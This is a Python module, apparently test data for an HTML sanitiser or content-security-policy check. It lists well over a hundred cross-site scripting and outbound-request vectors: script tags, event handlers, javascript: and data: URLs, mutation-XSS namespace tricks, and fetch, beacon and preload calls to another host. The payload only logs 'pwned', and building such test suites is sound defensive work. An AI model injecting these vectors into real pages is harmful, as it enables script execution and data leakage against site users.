"""What a hostile page tries: markup that runs code, or asks another host, as soon as a browser lets it.

`RUN` stands for a statement that shows that code has run, `{other}` for another host. What has the class `act` is
hovered over, focused and clicked.
"""

SIGN = "pwned"
RUN = f"console.log('{SIGN}')"

SCRIPTS = {
    "inline script": "<script>RUN</script>",
    "module": '<script type="module">RUN</script>',
    "classic script of another type": '<script type="text/javascript">RUN</script>',
    "script with a made-up nonce": '<script nonce="abc">RUN</script>',
    "script with its own hash": '<script integrity="sha256-AAAA">RUN</script>',
    "remote script": '<script src="{other}/run.js"></script>',
    "remote module": '<script type="module" src="{other}/run.js"></script>',
    "script as data": '<script src="data:text/javascript,RUN"></script>',
    "module import": '<script type="module">import "{other}/run.js"</script>',
    "dynamic import": '<script>import("{other}/run.js")</script>',
    "dynamic import on click": """<button class="act" onclick="import('{other}/run.js')">x</button>""",
    "import map": '<script type="importmap">{"imports": {"x": "{other}/run.js"}}</script><script type="module">import "x"</script>',
    "text for setTimeout": """<script>setTimeout("RUN", 0)</script>""",
    "eval": """<script>eval("RUN")</script>""",
    "function from text": """<script>new Function("RUN")()</script>""",
    "worker": '<script>new Worker("{other}/run.js")</script>',
    "worker of a blob": """<script>new Worker(URL.createObjectURL(new Blob(["RUN"])))</script>""",
    "service worker": '<script>navigator.serviceWorker.register("/run.js")</script>',
    "written script": """<script>document.write("<script>RUN<\\/script>")</script>""",
    "script in a template that is cloned": "<template id=t><script>RUN</script></template>"
    "<script>document.body.append(t.content.cloneNode(true))</script>",
    "declared shadow root": '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
    "template injection": '<div ng-app>{{constructor.constructor("RUN")()}}</div><script>RUN</script>',
}

EVENTS = {
    "error of a picture": '<img src="/none.png" onerror="RUN" alt="">',
    "load of a picture": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN" onerror="RUN" alt="">',
    "load of a style": '<style onload="RUN"></style>',
    "load of a frame": '<iframe onload="RUN"></iframe>',
    "load of the body": '<body onload="RUN">',
    "page shown, on the body": '<body onpageshow="RUN">',
    "focus of a field": '<input autofocus class="act" onfocus="RUN">',
    "hover": '<p class="act" onmouseover="RUN">x</p>',
    "pointer": '<p class="act" onpointerenter="RUN">x</p>',
    "click": '<button class="act" onclick="RUN">x</button>',
    "details": '<details open ontoggle="RUN"><summary>x</summary></details>',
    "start of a video": '<video src="/none.mp4" onerror="RUN"></video>',
    "source of a video": '<video><source src="/none.mp4" onerror="RUN"></video>',
    "audio": '<audio src="/none.mp3" onerror="RUN"></audio>',
    "object": '<object data="/none" onerror="RUN"></object>',
    "marquee": '<marquee onstart="RUN">x</marquee>',
    "animation": '<style>@keyframes k {}</style><p style="animation: k 1ms" onanimationstart="RUN">x</p>',
    "transition": '<p class="act" style="transition: color 1ms" ontransitionend="RUN">x</p><style>.act:hover {color: red}</style>',
    "popover": '<button class="act" popovertarget="pop">x</button><div popover id="pop" onbeforetoggle="RUN">x</div>',
    "hidden until found": '<input type="hidden" oncontentvisibilityautostatechange="RUN" style="content-visibility:auto">'
    '<p oncontentvisibilityautostatechange="RUN" style="display:block;content-visibility:auto">x</p>',
    "submit": '<form onsubmit="RUN" action="/none"><button class="act">x</button></form>',
    "script that fails": '<script src="/none.js" onerror="RUN"></script>',
    "style sheet that fails": '<link rel="stylesheet" href="/none.css" onerror="RUN">',
    "load of an SVG": '<svg onload="RUN"></svg>',
    "start of an SVG animation": '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>',
    "formula": '<math><mtext class="act" onmouseover="RUN">x</mtext></math>',
}

ADDRESSES = {
    "link": '<a class="act" href="javascript:RUN">x</a>',
    "link with white space": '<a class="act" href=" java&#9;script:RUN">x</a>',
    "link in a new window": '<a class="act" target="_blank" href="javascript:RUN">x</a>',
    "link as data": '<a class="act" href="data:text/html,<script>RUN</script>">x</a>',
    "link of an SVG": '<svg width="50" height="50"><a href="javascript:RUN"><rect class="act" width="50" height="50"/></a></svg>',
    "link of an SVG, xlink": '<svg width="50" height="50"><a xlink:href="javascript:RUN"><rect class="act" width="50" height="50"/></a></svg>',
    "link of an SVG, animated": '<svg width="50" height="50"><a><animate attributeName="href" values="javascript:RUN"/>'
    '<rect class="act" width="50" height="50"/></a></svg>',
    "link of a formula": '<math><mtext class="act" href="javascript:RUN">xxxxx</mtext></math>',
    "area of a map": '<img usemap="#m" src="/_static/favicon.svg" width="50" height="50" class="act" alt="">'
    '<map name="m"><area shape="rect" coords="0,0,50,50" href="javascript:RUN"></map>',
    "form": '<form action="javascript:RUN"><button class="act">x</button></form>',
    "button of a form": '<form><button class="act" formaction="javascript:RUN">x</button></form>',
    "picture of a form": '<form><input type="image" alt="x" class="act" formaction="javascript:RUN"></form>',
    "frame": '<iframe src="javascript:parent.RUN"></iframe>',
    "frame as data": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    "frame of its own text": '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "frame of its own text, in a sandbox": '<iframe sandbox="allow-scripts" srcdoc="<script>RUN</script>"></iframe>',
    "remote frame": '<iframe src="{other}/run.html"></iframe>',
    "frame that a link fills": '<iframe name="f"></iframe><a class="act" target="f" href="javascript:RUN">x</a>',
    "object as data": '<object data="data:text/html,<script>RUN</script>"></object>',
    "remote object": '<object data="{other}/run.html"></object>',
    "object of a script": '<object data="javascript:RUN"></object>',
    "embedded data": '<embed src="data:text/html,<script>RUN</script>">',
    "embedded remote page": '<embed src="{other}/run.html">',
    "frame set": '<frameset><frame src="javascript:RUN"></frameset>',
    "portal": '<portal src="{other}/run.html"></portal>',
    "fenced frame": '<fencedframe src="{other}/run.html"></fencedframe>',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "refresh to data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>">',
    "script in an SVG": "<svg><script>RUN</script></svg>",
    "script in an SVG, by address": '<svg><script href="data:text/javascript,RUN"></script></svg>',
    "use of an SVG as data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x\"/></svg>",
    "page inside an SVG": '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
    "picture of an SVG": "<img alt='' src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>\">",
    "namespace confusion": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=RUN>"></table></math>'
    "<math><mi><img src=/none.png onerror=RUN></mi></math>",
    "base": '<base href="{other}/"><script src="run.js"></script>',
}

REQUESTS = {
    "picture": '<img src="{other}/a.png" alt="">',
    "picture set": '<img srcset="{other}/a.png 1x" alt="">',
    "picture source": '<picture><source srcset="{other}/a.png"><img alt=""></picture>',
    "picture of an SVG": '<svg><image href="{other}/a.png" width="9" height="9"/></svg>',
    "use of an SVG": '<svg><use href="{other}/a.svg#x"/></svg>',
    "filter of an SVG": '<svg><filter id="f"><feImage href="{other}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    "style sheet": '<link rel="stylesheet" href="{other}/a.css">',
    "imported style sheet": '<style>@import "{other}/a.css";</style>',
    "background": '<p style="background: url({other}/a.png)">x</p>',
    "background by a style": "<style>p {background: url({other}/a.png)}</style><p>x</p>",
    "font": "<style>@font-face {font-family: f; src: url({other}/a.woff2)} p {font-family: f}</style><p>x</p>",
    "background of a table": '<table background="{other}/a.png"><tr><td>x</table>',
    "video": '<video autoplay src="{other}/a.mp4" poster="{other}/a.png"></video>',
    "audio": '<audio autoplay src="{other}/a.mp3"></audio>',
    "track": '<video src="{other}/a.mp4"><track default kind="captions" src="{other}/a.vtt"></video>',
    "icon": '<link rel="icon" href="{other}/a.png">',
    "manifest": '<link rel="manifest" href="{other}/a.json">',
    "preloaded script": '<link rel="preload" as="script" href="{other}/run.js">',
    "preloaded picture": '<link rel="preload" as="image" href="{other}/a.png">',
    "preloaded module": '<link rel="modulepreload" href="{other}/run.js">',
    "prefetched page": '<link rel="prefetch" href="{other}/run.html">',
    "prerendered page": '<link rel="prerender" href="{other}/run.html">',
    "speculation": '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["{other}/run.html"]}]}</script>',
    "ping of a link": '<a class="act" href="#" ping="{other}/ping">x</a>',
    "form": '<form method="post" action="{other}/form"><button class="act">x</button></form>',
    "button of a form": '<form><button class="act" formaction="{other}/form">x</button></form>',
    "form in a new window": '<form target="_blank" action="{other}/form"><button class="act">x</button></form>',
    "base for a form": '<base href="{other}/"><form action="form"><button class="act">x</button></form>',
    "base for a picture": '<base href="{other}/"><img src="a.png" alt="">',
    "fetch": "<script>fetch('{other}/a')</script>",
    "beacon": "<script>navigator.sendBeacon('{other}/a')</script>",
    "web socket": "<script>new WebSocket('{other}/a'.replace('http', 'ws'))</script>",
    "event source": "<script>new EventSource('{other}/a')</script>",
    "worklet": "<script>CSS.paintWorklet.addModule('{other}/run.js')</script>",
    "report of a policy": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri {other}/report">'
    '<img src="{other}/a.png" alt="">',
}

VECTORS = {
    f"{kind}: {name}": markup.replace("RUN", RUN)
    for kind, vectors in {"script": SCRIPTS, "event": EVENTS, "address": ADDRESSES, "request": REQUESTS}.items()
    for name, markup in vectors.items()
}
